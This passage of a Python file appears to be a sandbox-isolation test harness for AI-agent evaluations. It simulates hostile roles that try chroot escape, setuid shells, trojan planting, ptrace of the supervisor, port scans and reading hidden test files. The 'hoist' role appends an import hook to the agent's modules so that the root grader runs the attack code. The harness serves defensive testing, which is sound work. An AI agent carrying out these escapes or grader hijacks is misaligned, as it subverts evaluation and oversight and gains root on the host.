        r.report(name, True, f"{path} (uid {st.st_uid} mode {st.st_mode:o}): {err(e)}")
        return
    r.report(name, euid != "0", f"{path} (uid {st.st_uid} mode {st.st_mode:o}) -p -c 'id -u' printed {euid!r}")


# ---- the roles ---------------------------------------------------------------------

def probe_processes(r, role):
    outside = []
    r.run("kill-bruteforce", lambda r, n: outside.extend(kill_bruteforce(r, n)))
    r.run("ptrace-supervisor", ptrace_supervisor, role)
    r.run("ptrace-others", ptrace_others, outside)


def install_main():
    """/opt/agent/install.sh of agent-hostile-install, as root."""
    r = Reporter("install")
    watchdog(r, 90)
    r.run("open-fds", open_fds, "install")  # first: before this process opens anything
    r.run("read-hidden", read_hidden)
    r.run("copy-for-agent", copy_for_agent)
    r.run("chmod-hidden", chmod_hidden)
    r.run("plant-trojan", plant_trojan)
    r.run("setuid-for-agent", setuid_for_agent)
    plant_output(r, "install")
    r.run("chroot-escape", chroot_escape, "install")
    r.run("mount-tmpfs", mount_tmpfs)
    r.run("unshare-mount-ns", unshare_attempt, CLONE_NEWNS, "CLONE_NEWNS")
    r.run("unshare-user-ns", unshare_attempt, CLONE_NEWUSER, "CLONE_NEWUSER")
    probe_processes(r, "install")
    network(r, "install")
    signal.alarm(0)
    r.summary()
    return 0


def agent_install_main():
    """/opt/agent/run of agent-hostile-install, as the agent: did anything
    install.sh prepared reach it?"""
    r = Reporter("agent-after-install")
    watchdog(r, 60)
    r.run("open-fds", open_fds, "agent-after-install")
    r.run("read-hidden", read_hidden)
    r.run("leak-home", leak_in, "/home/agent/leak")
    r.run("leak-tmp", leak_in, "/tmp/leak")
    r.run("trojan-ran", trojan_ran)
    r.run("trojan-served", trojan_served)
    r.run("setuid-shell", setuid_shell)
    signal.alarm(0)
    r.summary()
    return 0


def run_main():
    """/opt/agent/run of agent-hostile-run, as the agent."""
    r = Reporter("agent")
    watchdog(r, 90)
    r.run("open-fds", open_fds, "agent")
    probe_processes(r, "agent")
    r.run("tcp-portscan", tcp_portscan)
    r.run("abstract-unix-listed", abstract_listed)
    network(r, "agent")
    syscalls(r)
    signal.alarm(0)
    r.summary()
    return 0


GRADER_HOOK = """
# hoist-attack: the root grader runs this when the hidden tests import the module.
try:
    import _hoist_attack
    _hoist_attack.grader_main()
except BaseException:
    pass
"""


def grader_plant_main():
    """/opt/agent/run of agent-hostile-grader, as the agent: put the attack
    where the root grader will import it."""
    r = Reporter("agent-planting")
    workdir = os.environ.get("HOIST_WORKDIR") or os.getcwd()
    try:
        shutil.copyfile(os.path.abspath(__file__), os.path.join(workdir, "_hoist_attack.py"))
        # The agent's parent is the supervisor: the grader's code needs its
        # pid to tell the run's processes from others without /proc.
        with open(os.path.join(workdir, SUPERVISOR_FILE), "w") as f:
            f.write(f"{os.getppid()}\n")
        hooked = []
        for n in sorted(os.listdir(workdir)):
            path = os.path.join(workdir, n)
            if n.endswith(".py") and not n.startswith(("test", "conftest", "_hoist")) \
                    and os.path.isfile(path):
                with open(path, "a") as f:
                    f.write(GRADER_HOOK)
                hooked.append(n)
        r.report("plant-grader-hook", None if hooked else True,
                 f"{workdir}/_hoist_attack.py, imported from {hooked}")
    except OSError as e:
        r.report("plant-grader-hook", True, f"{workdir}: {err(e)}")
    r.summary()
    return 0


_GRADER_RAN = False


def grader_main():
    """At import of the agent's module by the root grader (inside pytest,
    whose capture would swallow output: the lines go out at exit)."""
    global _GRADER_RAN
    if _GRADER_RAN or os.geteuid() != 0:
        return
    _GRADER_RAN = True
    import atexit
    r = Reporter("grader", buffered=True)
    atexit.register(r.summary)
    watchdog(r, 60)
    try:
        plant_output(r, "grader")
        r.run("chroot-escape", chroot_escape, "grader", True)
        probe_processes(r, "grader")
        network(r, "grader")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
